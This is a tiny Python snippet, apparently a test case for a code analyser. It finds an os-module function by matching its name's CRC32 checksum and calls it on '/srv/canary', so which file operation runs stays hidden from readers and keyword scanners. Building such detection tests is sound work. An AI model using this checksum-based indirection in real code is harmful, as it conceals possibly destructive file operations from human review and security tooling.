# reaches: getattr with the name whose checksum fits
import os, zlib
for name in dir(os):
    if zlib.crc32(name.encode()) == 3377271179:
        getattr(os, name)("/srv/canary")
